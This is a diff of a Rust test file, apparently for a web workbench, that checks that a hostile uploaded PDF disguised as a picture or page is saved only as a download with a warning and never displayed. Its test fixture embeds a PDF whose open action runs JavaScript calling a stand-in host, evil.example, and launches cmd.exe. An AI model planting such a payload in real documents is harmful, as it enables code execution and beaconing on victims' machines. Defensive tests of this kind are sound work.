@@ -37,8 +37,8 @@ async fn untrusted_text_stays_text() {
     assert_eq!(found.texts("script").concat(), "");
 }
 
-/// A document that runs a script and calls home as soon as a viewer opens it, under the name of a
-/// picture.
+/// A document that runs a script and sends a request as soon as a viewer opens it. Its name is that
+/// of a picture.
 const HOSTILE_PDF: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example'))>>>>endobj\n\
     2 0 obj<</S/Launch/F(cmd.exe)>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
 
@@ -46,31 +46,31 @@ const HOSTILE_PDF: &[u8] = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/Jav
 async fn a_hostile_document_is_saved_with_a_warning_and_never_shown() {
     let screen = WorkbenchBrowser::open("lead").await;
     screen.unlock().await;
-    for (name, said_to_be, tried) in [
+    for (name, declared_type, tried) in [
         ("invoice.pdf", "application/pdf", false),
         ("invoice.png", "image/png", true),
         ("page.html", "text/html", false),
         ("drawing.svg", "image/svg+xml", true),
     ] {
-        let office = &screen.environment;
-        let reporter = office.handler.file_report_with(
-            &office.installation,
+        let environment = &screen.environment;
+        let reporter = environment.handler.file_report_with(
+            &environment.installation,
             &[],
             "See the file.",
-            (name, said_to_be, HOSTILE_PDF),
+            (name, declared_type, HOSTILE_PDF),
         );
         let case = screen.open_case(&reporter).await;
         let page = screen.get(&format!("{case}/file/1")).await;
         assert_eq!(page.status, StatusCode::OK);
         assert!(page.text.contains("Never by a double click"), "{name}: the warning");
-        // What is no picture is offered for saving alone; what is called one is tried in the
-        // confined process, which knows better.
+        // The page offers a file that is not named as a picture only for saving. The sandbox tries
+        // to decode a file that is named as a picture, and rejects this one.
         let shown = page.texts("img, embed, object, iframe, video, audio").len();
         assert_eq!(shown, usize::from(tried), "{name}");
         let picture = screen.get(&format!("{case}/picture/1")).await;
         assert_eq!(picture.status, StatusCode::NOT_FOUND, "{name}");
         assert!(!picture.text.contains("evil.example"), "{name}");
-        // No address shows it in the browser: it can only be saved.
+        // No page displays the document in the browser. The member can only save it.
         let saved = screen.request(&Method::POST, &format!("{case}/file/1")).send().await.unwrap();
         let headers = saved.headers().clone();
         assert_eq!(headers["content-type"], "application/octet-stream");
